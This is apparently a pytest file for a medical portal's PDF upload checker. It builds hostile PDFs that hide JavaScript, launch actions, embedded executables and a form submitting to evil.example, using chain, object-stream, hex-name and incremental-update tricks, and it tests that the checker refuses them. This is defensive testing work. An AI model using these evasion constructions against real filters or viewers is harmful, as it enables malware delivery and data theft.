"""Uploaded PDFs: a corpus of hostile files, each refused with a clear message and nothing kept,
and the plain ones a scanner or a clinic's system makes, accepted.

Every file is built here, with pikepdf or as raw bytes, so each shows exactly one trick: an
action hidden at the end of a long chain, in an object stream, behind a cycle, in an appended
revision, under a hex-escaped name, or in an encrypted file.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pikepdf
import pytest
import sqlalchemy as sa
from pikepdf import Array, Dictionary, Name, String
from werkzeug.datastructures import FileStorage

from portal import uploads
from portal.corrections.models import CorrectionFile, CorrectionRequest
from portal.database import db
from portal.record.models import Document
from tests.conftest import csrf_token
from tests.test_corrections import make_entries

REFUSED = "The PDF contains scripts, links, forms with actions or attachments"
REFUSED_RU = "PDF-файл содержит скрипты, ссылки, формы с действиями или вложения"
ENCRYPTED = "The PDF is protected by a password or encryption"
DAMAGED = "The PDF is damaged"


# -- building PDFs --------------------------------------------------------------------------------


def new_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return pdf


def save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def javascript() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(document.cookie)"))


def with_link(action: Dictionary, **options) -> bytes:
    """A page with one link annotation running ``action`` when clicked."""
    pdf = new_pdf()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))
    return save(pdf, **options)


def with_catalog(**entries) -> bytes:
    pdf = new_pdf()
    for key, value in entries.items():
        pdf.Root[Name("/" + key)] = value
    return save(pdf)


def with_annotation(subtype: str, **entries) -> bytes:
    pdf = new_pdf()
    annotation = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([0, 0, 50, 50]), **entries)
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])
    return save(pdf)


def next_chain(length: int, last: Dictionary) -> Dictionary:
    """``length`` harmless-looking go-to actions, each naming the next, ``last`` at the end."""
    action = last
    for _ in range(length):
        action = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=action)
    return action


def indirect_next_chain(length: int) -> bytes:
    """The chain as indirect objects, ``length`` of them: no nesting for a parser to refuse."""
    pdf = new_pdf()
    action = pdf.make_indirect(javascript())
    for _ in range(length):
        action = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=action))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
    return save(pdf)


def deep_direct_keys(depth: int) -> bytes:
    """A /JS key ``depth`` direct dictionaries down inside the page (no action type on the way)."""
    pdf = new_pdf()
    inner = Dictionary(JS=String("app.alert(1)"))
    for _ in range(depth):
        inner = Dictionary(Inner=inner)
    pdf.pages[0].PieceInfo = inner
    return save(pdf)


def cycle_with_javascript() -> bytes:
    """Two actions naming each other as /Next, a script hanging off the loop."""
    pdf = new_pdf()
    first = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    second = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=first))
    first.Next = Array([second, pdf.make_indirect(javascript())])
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Extra=first))
    return save(pdf)


def in_object_stream() -> bytes:
    """The script saved inside a compressed object stream: no /JavaScript in the file's bytes."""
    pdf = new_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(javascript())
    data = save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in data
    return data


def incremental_update(plain: bytes) -> bytes:
    """``plain`` with a second revision appended that adds an open action running a script."""
    with pikepdf.open(io.BytesIO(plain)) as pdf:
        root = pdf.Root.objgen[0]
        size = int(pdf.trailer.Size)
    catalog = re.search(rb"%d 0 obj\s*(<<.*?>>)\s*endobj" % root, plain, re.DOTALL).group(1)
    script = size
    body = (
        b"\n%d 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n" % script
        + b"%d 0 obj\n" % root
        + catalog[:-2]
        + b" /OpenAction %d 0 R >>\nendobj\n" % script
    )
    start = len(plain) + body.index(b"%d 0 obj" % script)
    root_at = len(plain) + body.index(b"%d 0 obj" % root, body.index(b"endobj"))
    xref_at = len(plain) + len(body)
    previous = int(re.findall(rb"startxref\s+(\d+)", plain)[-1])
    xref = b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (
        root,
        root_at,
        script,
        start,
    ) + b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size + 1, root, previous, xref_at)
    return plain + body + xref


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written byte by byte (for names no library would write the way an attacker does)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_at)
    return bytes(out)


PAGE_OBJECTS = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
)


def hex_escaped_script() -> bytes:
    """/OpenAction written as /Open#41ction, the action type as /J#61vaScript."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
        *PAGE_OBJECTS,
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    )


def orphan_script() -> bytes:
    """A script object outside the cross-reference table, after the end: found by a viewer that
    rebuilds the table by scanning, not by one that reads it."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS) + (
        b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    )


def encrypted(user: str, owner: str = "owner") -> bytes:
    return save(new_pdf(), encryption=pikepdf.Encryption(user=user, owner=owner, R=6))


def named_javascript() -> bytes:
    pdf = new_pdf()
    tree = Dictionary(Names=Array([String("start"), pdf.make_indirect(javascript())]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))
    return save(pdf)


def embedded_file() -> bytes:
    pdf = new_pdf()
    stream = pikepdf.Stream(pdf, b"MZ this would be a program")
    stream.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=pdf.make_indirect(stream)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])))
    return save(pdf)


def form_submitting_elsewhere() -> bytes:
    pdf = new_pdf()
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect")))
    widget = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), Rect=Array([0, 0, 9, 9]))
    )
    widget.A = submit
    pdf.pages[0].Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return save(pdf)


def script_in_xobject_stream() -> bytes:
    """The script hangs off a form XObject's stream dictionary, not a plain dictionary."""
    pdf = new_pdf()
    xobject = pikepdf.Stream(pdf, b"")
    xobject.Type, xobject.Subtype, xobject.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
    xobject.AA = Dictionary(O=javascript())
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Fm0=xobject))
    return save(pdf)


HOSTILE = {
    "open action running a script": lambda: with_catalog(OpenAction=javascript()),
    "script after ten /Next go-to actions in a link": lambda: with_link(next_chain(10, javascript())),
    "script after a thousand indirect /Next actions": lambda: indirect_next_chain(1000),
    "a /JS key ten dictionaries deep": lambda: deep_direct_keys(10),
    "a cycle of actions with a script off it": cycle_with_javascript,
    "script in an object stream": in_object_stream,
    "script added by an incremental update": lambda: incremental_update(save(new_pdf())),
    "hex-escaped /J#61vaScript": hex_escaped_script,
    "script object outside the cross-reference table": orphan_script,
    "link to a javascript: URI": lambda: with_link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
    "link to a web site": lambda: with_link(Dictionary(S=Name.URI, URI=String("https://evil.example/"))),
    "form submitting to another site": form_submitting_elsewhere,
    "launch action": lambda: with_link(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "go to another file": lambda: with_link(Dictionary(S=Name.GoToR, F=String("//evil/share.pdf"), D=Array([0]))),
    "go to an embedded file": lambda: with_link(Dictionary(S=Name.GoToE, D=Array([0]))),
    "import data": lambda: with_link(Dictionary(S=Name.ImportData, F=String("data.fdf"))),
    "named action": lambda: with_link(Dictionary(S=Name.Named, N=Name.Print)),
    "page additional actions": lambda: with_catalog(AA=Dictionary(WC=javascript())),
    "document-level JavaScript name tree": named_javascript,
    "embedded file": embedded_file,
    "file attachment annotation": lambda: with_annotation("FileAttachment", Contents=String("x")),
    "rich media annotation": lambda: with_annotation("RichMedia"),
    "sound annotation": lambda: with_annotation("Sound"),
    "movie annotation": lambda: with_annotation("Movie"),
    "screen annotation with a rendition": lambda: with_annotation("Screen", A=Dictionary(S=Name.Rendition, OP=0)),
    "3D annotation": lambda: with_annotation("3D"),
    "XFA form": lambda: with_catalog(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>"))),
    "script on an XObject's stream dictionary": script_in_xobject_stream,
    "open action as an action, not a destination": lambda: with_catalog(
        OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))
    ),
    "link with a script as its additional action": lambda: with_annotation(
        "Link", AA=Dictionary(E=javascript()), Dest=Array([0, Name.Fit])
    ),
}


def checked(data: bytes, name: str = "scan.pdf") -> uploads.CheckedFile:
    return uploads.check(FileStorage(io.BytesIO(data), filename=name))


def refusal(app, data: bytes) -> str | None:
    """The English message a file is refused with, or None when it is accepted."""
    with app.test_request_context(headers={"Cookie": "lang=en"}):
        try:
            checked(data)
        except uploads.UploadError as error:
            return str(error)
    return None


# -- the corpus -----------------------------------------------------------------------------------


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 20


@pytest.mark.parametrize("trick", list(HOSTILE))
def test_a_hostile_pdf_is_refused(app, trick):
    data = HOSTILE[trick]()
    assert data.startswith(b"%PDF-")
    assert refusal(app, data) is not None and REFUSED in refusal(app, data)


@pytest.mark.parametrize("password", ["", "secret"])
def test_an_encrypted_pdf_is_refused_whatever_its_password(app, password):
    assert ENCRYPTED in refusal(app, encrypted(password))


def test_a_pdf_nested_deeper_than_the_parser_allows_is_refused(app):
    message = refusal(app, deep_direct_keys(1000))
    assert message is not None and (REFUSED in message or DAMAGED in message)


def test_a_pdf_whose_cross_reference_table_had_to_be_rebuilt_is_refused(app):
    plain = save(new_pdf())
    broken = re.sub(rb"startxref\s+\d+", b"startxref\n100000", plain)  # points past the end
    assert DAMAGED in refusal(app, broken)


# -- what a scanner or a clinic's system makes ------------------------------------------------------


def image_pdf() -> bytes:
    from PIL import Image

    pdf = new_pdf()
    raw = io.BytesIO()
    Image.new("RGB", (40, 30), (250, 250, 250)).save(raw, format="JPEG")
    image = pikepdf.Stream(pdf, raw.getvalue())
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 40, 30
    image.ColorSpace, image.BitsPerComponent, image.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))
    pdf.pages[0].Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def tagged_pdf_with_outline_and_internal_link() -> bytes:
    """Tagged (structure elements use /S and /A too), a two-item outline whose items point at
    each other (a cycle a walk must end), a link to the page by destination, open at the page."""
    pdf = new_pdf()
    page = pdf.pages[0].obj
    element = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, A=Dictionary(O=Name.Layout)))
    pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=element))
    element.P = pdf.Root.StructTreeRoot
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    first = pdf.make_indirect(Dictionary(Title=String("Анализ"), Parent=outlines, Dest=Array([page, Name.Fit])))
    last = pdf.make_indirect(Dictionary(Title=String("Заключение"), Parent=outlines, Prev=first))
    first.Next, outlines.First, outlines.Last = last, first, last
    pdf.Root.Outlines = outlines
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), Dest=Array([page, Name.Fit]))
    pdf.pages[0].Annots = Array([pdf.make_indirect(link), pdf.make_indirect(Dictionary(Subtype=Name.Text))])
    pdf.Root.OpenAction = Array([page, Name.Fit])
    return save(pdf)


@pytest.mark.parametrize(
    "make",
    [lambda: save(new_pdf()), image_pdf, tagged_pdf_with_outline_and_internal_link],
    ids=["blank page", "scanned image in object streams", "tagged with outline and internal link"],
)
def test_a_plain_pdf_is_accepted_as_it_is(app, make):
    data = make()
    with app.test_request_context():
        assert checked(data).data == data


def test_a_plain_pdf_with_a_plain_second_revision_is_accepted(app):
    """An incremental update by itself is no trick: a signed or annotated scan has one."""
    plain = save(new_pdf())
    with pikepdf.open(io.BytesIO(plain)) as pdf:
        pdf.Root.Lang = String("ru")
        out = io.BytesIO()
        pdf.save(out)
    assert refusal(app, out.getvalue()) is None


# -- through the pages, in both languages --------------------------------------------------------


def stored_files(app) -> set[Path]:
    base = Path(app.config["UPLOAD_DIR"])
    return {p for p in base.rglob("*") if p.is_file()} if base.exists() else set()


def count(app, model) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count()).select_from(model))


@pytest.mark.parametrize(("lang", "message"), [("ru", REFUSED_RU), ("en", REFUSED)])
def test_a_correction_report_with_the_ten_next_link_stores_nothing(app, demo, login, lang, message):
    """The file of issue 8 never reaches the registrar: the report is refused, nothing is kept."""
    patient = demo["patient"]
    entries = make_entries(app, patient.patient_id)
    client = login(patient)
    client.set_cookie("lang", lang)
    before = stored_files(app), count(app, CorrectionRequest), count(app, CorrectionFile)
    path = f"/card/{patient.patient_id}/allergies/{entries['allergies']}/report-error"
    data = {
        "csrf_token": csrf_token(client, path),
        "description": "Реакция указана неверно, была сыпь",
        "files": [(io.BytesIO(HOSTILE["script after ten /Next go-to actions in a link"]()), "scan.pdf")],
    }
    response = client.post(path, data=data, content_type="multipart/form-data")
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    assert (stored_files(app), count(app, CorrectionRequest), count(app, CorrectionFile)) == before


@pytest.mark.parametrize(("lang", "message"), [("ru", "PDF-файл защищён паролем или шифрованием"), ("en", ENCRYPTED)])
def test_an_encrypted_document_upload_says_so_and_stores_nothing(app, demo, login, lang, message):
    card = demo["patient"].patient_id
    client = login(demo["patient"])
    client.set_cookie("lang", lang)
    before = stored_files(app)
    with app.app_context():
        documents_before = db.session.scalar(sa.select(sa.func.count()).where(Document.patient_id == card))
    path = f"/card/{card}/documents/upload"
    data = {
        "csrf_token": csrf_token(client, path),
        "title": "Выписка",
        "document_date": "01.02.2025",
        "kind": "discharge",
        "file": (io.BytesIO(encrypted("")), "выписка.pdf"),
    }
    response = client.post(path, data=data, content_type="multipart/form-data")
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).where(Document.patient_id == card)) == documents_before
    assert stored_files(app) == before
